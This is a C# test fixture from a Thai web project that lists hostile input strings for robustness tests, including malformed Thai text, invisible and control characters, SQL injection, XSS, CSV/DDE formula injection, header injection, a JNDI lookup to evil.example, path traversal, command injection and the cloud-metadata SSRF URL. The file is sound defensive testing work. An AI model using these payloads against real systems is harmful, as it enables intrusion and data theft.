namespace Songthang.Web.Tests.Text;

/// <summary>
/// What people type who mean no good, or whose keyboard or program means well: Thai marks in heaps and in the wrong order, directions turned
/// round, characters that nobody sees, halves of characters, pictures made of many, other scripts; words that are something else to a
/// database, a page, a sheet, a letter, a log, a template, a path; numbers that are none; and far too much of it.
/// </summary>
static class HostileTexts
{
    /// <summary>All of them; no two are the same.</summary>
    public static IReadOnlyList<string> All { get; } =
    [
        "ก\u0e49\u0e49\u0e49\u0e49\u0e49\u0e49\u0e49\u0e49\u0e49\u0e49\u0e49\u0e49\u0e49\u0e49\u0e49\u0e49\u0e49\u0e49\u0e49\u0e49\u0e49\u0e49\u0e49\u0e49\u0e49\u0e49\u0e49\u0e49\u0e49\u0e49\u0e49\u0e49\u0e49\u0e49\u0e49\u0e49\u0e49\u0e49\u0e49\u0e49",
        "น\u0e49\u0e4d\u0e32", "น\u0e4d\u0e49\u0e32", "เเมว",
        "ก\u0e34\u0e48ก\u0e34\u0e48ก\u0e34\u0e48ก\u0e34\u0e48ก\u0e34\u0e48ก\u0e34\u0e48ก\u0e34\u0e48ก\u0e34\u0e48ก\u0e34\u0e48ก\u0e34\u0e48ก\u0e34\u0e48ก\u0e34\u0e48ก\u0e34\u0e48ก\u0e34\u0e48ก\u0e34\u0e48ก\u0e34\u0e48ก\u0e34\u0e48ก\u0e34\u0e48ก\u0e34\u0e48ก\u0e34\u0e48ก\u0e34\u0e48ก\u0e34\u0e48ก\u0e34\u0e48ก\u0e34\u0e48ก\u0e34\u0e48ก\u0e34\u0e48ก\u0e34\u0e48ก\u0e34\u0e48ก\u0e34\u0e48ก\u0e34\u0e48",
        "\u0e34\u0e49\u0e37",
        "ป\u0e39\u0e48ย\u0e48\u0e32ต\u0e32ย\u0e32ยป\u0e39\u0e48ย\u0e48\u0e32ต\u0e32ย\u0e32ยป\u0e39\u0e48ย\u0e48\u0e32ต\u0e32ย\u0e32ยป\u0e39\u0e48ย\u0e48\u0e32ต\u0e32ย\u0e32ยป\u0e39\u0e48ย\u0e48\u0e32ต\u0e32ย\u0e32ยป\u0e39\u0e48ย\u0e48\u0e32ต\u0e32ย\u0e32ยป\u0e39\u0e48ย\u0e48\u0e32ต\u0e32ย\u0e32ยป\u0e39\u0e48ย\u0e48\u0e32ต\u0e32ย\u0e32ยป\u0e39\u0e48ย\u0e48\u0e32ต\u0e32ย\u0e32ยป\u0e39\u0e48ย\u0e48\u0e32ต\u0e32ย\u0e32ยป\u0e39\u0e48ย\u0e48\u0e32ต\u0e32ย\u0e32ยป\u0e39\u0e48ย\u0e48\u0e32ต\u0e32ย\u0e32ยป\u0e39\u0e48ย\u0e48\u0e32ต\u0e32ย\u0e32ยป\u0e39\u0e48ย\u0e48\u0e32ต\u0e32ย\u0e32ยป\u0e39\u0e48ย\u0e48\u0e32ต\u0e32ย\u0e32ยป\u0e39\u0e48ย\u0e48\u0e32ต\u0e32ย\u0e32ยป\u0e39\u0e48ย\u0e48\u0e32ต\u0e32ย\u0e32ยป\u0e39\u0e48ย\u0e48\u0e32ต\u0e32ย\u0e32ยป\u0e39\u0e48ย\u0e48\u0e32ต\u0e32ย\u0e32ยป\u0e39\u0e48ย\u0e48\u0e32ต\u0e32ย\u0e32ย",
        "ก\u0e47\u0e48\u0e49\u0e4a\u0e4b\u0e4c", "๐๑๒๓๔๕๖๗๘๙", "ไฟ\u200bด\u0e31บ", "ฤๅษ\u0e35 ฦๅ",
        "กร\u0e38งเทพมห\u0e32นครอมรร\u0e31ตนโกส\u0e34นทร\u0e4cมห\u0e34นทร\u0e32ย\u0e38ธย\u0e32กร\u0e38งเทพมห\u0e32นครอมรร\u0e31ตนโกส\u0e34นทร\u0e4cมห\u0e34นทร\u0e32ย\u0e38ธย\u0e32กร\u0e38งเทพมห\u0e32นครอมรร\u0e31ตนโกส\u0e34นทร\u0e4cมห\u0e34นทร\u0e32ย\u0e38ธย\u0e32กร\u0e38งเทพมห\u0e32นครอมรร\u0e31ตนโกส\u0e34นทร\u0e4cมห\u0e34นทร\u0e32ย\u0e38ธย\u0e32กร\u0e38งเทพมห\u0e32นครอมรร\u0e31ตนโกส\u0e34นทร\u0e4cมห\u0e34นทร\u0e32ย\u0e38ธย\u0e32กร\u0e38งเทพมห\u0e32นครอมรร\u0e31ตนโกส\u0e34นทร\u0e4cมห\u0e34นทร\u0e32ย\u0e38ธย\u0e32",
        "\u0e4d\u0e32", "\u0e33\u0e33\u0e33", "ๆๆๆๆ ฯลฯ", "\u0e3f \u0e5b \u0e5a", "\u202eกล\u0e31บหล\u0e31ง", "a\u202eb\u202dc\u202c",
        "\u2066\u2067\u2068x\u2069", "\u200f\u200e\u05e9\u05dc\u05d5\u05dd", "\u061c\u061c", "a\u200b\u200c\u200d\u2060\ufeffb", "\ufeffห\u0e31ว",
        "\u00adsoft", "\u3164", "\u2800\u2800\u2800", "\u180e", "\U000e0041\U000e0042", "\u034f\u034f", "\u115f\u1160", "\ufffe\uffff", "\ufdd0",
        "\u2028บรรท\u0e31ด\u2029ย\u0e48อหน\u0e49\u0e32", "\u0085x", "\u2062\u2063\u2064", "a\u0000b", "\u0000",
        "\u0001\u0002\u0003\u0004\u0005\u0006\u0007\u0008", "\u001b[31mแดง\u001b[0m", "\u001b]0;title\u0007", "\u007f\u0080\u009f",
        "a\tb\u000bc\u000cd", "x\u0008\u0008\u0008y", "\u001a", "\u000e\u000f", "a\ud83d b", "a\ude00 b", "\ude00\ud83d",
        "\u0645\u0631\u062d\u0628\u0627 \u0628\u0627\u0644\u0639\u0627\u0644\u0645", "\u05e2\u05d1\u05e8\u05d9\u05ea \u05e2\u05dd \u05b0\u05b1",
        "Z\u0301\u0302\u0303\u0308\u0301\u0302\u0303\u0308\u0301\u0302\u0303\u0308\u0301\u0302\u0303\u0308\u0301\u0302\u0303\u0308\u0301\u0302\u0303\u0308\u0301\u0302\u0303\u0308\u0301\u0302\u0303\u0308\u0301\u0302\u0303\u0308\u0301\u0302\u0303\u0308\u0301\u0302\u0303\u0308\u0301\u0302\u0303\u0308\u0301\u0302\u0303\u0308\u0301\u0302\u0303\u0308\u0301\u0302\u0303\u0308\u0301\u0302\u0303\u0308\u0301\u0302\u0303\u0308\u0301\u0302\u0303\u0308\u0301\u0302\u0303\u0308\u0301\u0302\u0303\u0308\u0301\u0302\u0303\u0308\u0301\u0302\u0303\u0308\u0301\u0302\u0303\u0308\u0301\u0302\u0303\u0308\u0301\u0302\u0303\u0308",
        "\u0940\u0940\u0940", "\ufdfa", "\U0001d57f\U0001d58d\U0001d586\U0001d58e", "\ufb01\ufb02", "\u00c5 \u00c5", "\u1e9b\u0323",
        "\ud55c\uae00 \uac01", "\u65e5\u672c\u8a9e\u306e\u6587\u5b57\u5217", "\u0391\u0392\u0393 \u03c2 \u03c3", "\u0130\u0131iI", "\u00df \u1e9e",
        "\ud7ff\ue000", "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466",
        "\U0001f3f4\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f", "\U0001f1f9\U0001f1ed\U0001f1f9\U0001f1ed",
        "\U0001f44d\U0001f3fd\U0001f44d\U0001f3ff", "1\ufe0f\u20e3#\ufe0f\u20e3", "\u2764\ufe0f\u200d\U0001f525",
        "\U0001f600\U0001f600\U0001f600\U0001f600\U0001f600\U0001f600\U0001f600\U0001f600\U0001f600\U0001f600\U0001f600\U0001f600\U0001f600\U0001f600\U0001f600\U0001f600\U0001f600\U0001f600\U0001f600\U0001f600\U0001f600\U0001f600\U0001f600\U0001f600\U0001f600\U0001f600\U0001f600\U0001f600\U0001f600\U0001f600\U0001f600\U0001f600\U0001f600\U0001f600\U0001f600\U0001f600\U0001f600\U0001f600\U0001f600\U0001f600\U0001f600\U0001f600\U0001f600\U0001f600\U0001f600\U0001f600\U0001f600\U0001f600\U0001f600\U0001f600\U0001f600\U0001f600\U0001f600\U0001f600\U0001f600\U0001f600\U0001f600\U0001f600\U0001f600\U0001f600",
        "\U0001f9d1\U0001f3fb\u200d\u2764\ufe0f\u200d\U0001f48b\u200d\U0001f9d1\U0001f3ff", "\ufe0f\ufe0f", "'; DROP TABLE service_requests; --",
        "' OR '1'='1", "\" OR \"\"=\"", "1; SELECT pg_sleep(9)", "') UNION SELECT secret FROM service_requests --", "%' ESCAPE '\\", "%_%_%",
        "\\'; --", "$$; DROP SCHEMA public; $$", "x'||(SELECT 1)||'", "NULL", "E'\\\\x00'", "<script>window.hacked=1</script>",
        "\"><img src=x onerror=window.hacked=1>", "'><svg/onload=window.hacked=1>", "<a href=\"javascript:window.hacked=1\">x</a>",
        "</textarea><script>window.hacked=1</script>", "</title><script>window.hacked=1</script>", "<!--", "]]>",
        "<iframe srcdoc=\"<script>parent.hacked=1</script>\">", "&lt;b&gt; &amp; &#0; &#x1F600;", "\" autofocus onfocus=\"window.hacked=1",
        "<style>*{display:none}</style>", "<base href=\"//evil.example/\">", "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
        "{{constructor.constructor(\"window.hacked=1\")()}}", "<bdo dir=rtl>x</bdo>", "\\u003cscript\\u003e", "<plaintext>", "</bdi></main></body>",
        "=cmd|'/C calc'!A0", "=HYPERLINK(\"http://evil.example\",\"x\")", "+1+1", "-2+3", "@SUM(1+1)", "\t=1+1", "=1+1\";\"=2", "a,b;c\td\"e\"\"f",
        "\"", "\"\"", "=DDE(\"x\";\"y\")", "\uff1d1+1", "|calc", "%0A=1", "a@b.example\r\nBcc: c@d.example", "Subject: x\r\n\r\nbody",
        "x\nfail: Songthang[0]\n      forged", "\r\nHTTP/1.1 200 OK\r\n", "{\"LogLevel\":\"Critical\"}\n{\"a\":1}", "=?utf-8?B?PGI+?=",
        "a\rb\nc\r\nd", "\n.\n", "%0d%0aSet-Cookie:x=1", "%s%s%s%n%x", "{0}{1}{99999999}", "${jndi:ldap://evil.example/a}", "#{7*7}", "{{7*7}}",
        "@(1+1) @Model @{", "<%= 7*7 %>", "../../../../etc/passwd", "..\\..\\windows\\win.ini", "/dev/null", "file:///etc/passwd", "C:\\CON",
        "*)(uid=*))(|(uid=*", "' or count(/*)=1 or 'a'='b", "`id`; $(id) && id", "|| ping 127.0.0.1 ||", "http://169.254.169.254/latest/meta-data/",
        "constructor", "__proto__", "toString", "1e309", "-0", "NaN", "Infinity", "0x7fffffff", "9223372036854775808", "\uff11\uff12\uff13",
        "\u0661\u0662\u0663", "0.1.2", "1,000.00", "\uff12\uff10\uff12\uff16-\uff11\uff11-\uff12\uff13", "99999-12-31", "0000-00-00", "31/02/2569",
        "25:61", new string('a', 5_000), string.Concat(Enumerable.Repeat("ไฟทางดับ", 700)), new string('W', 150),
        string.Concat(Enumerable.Repeat("x\n", 900)), new string(' ', 3_000) + "x",
    ];
}
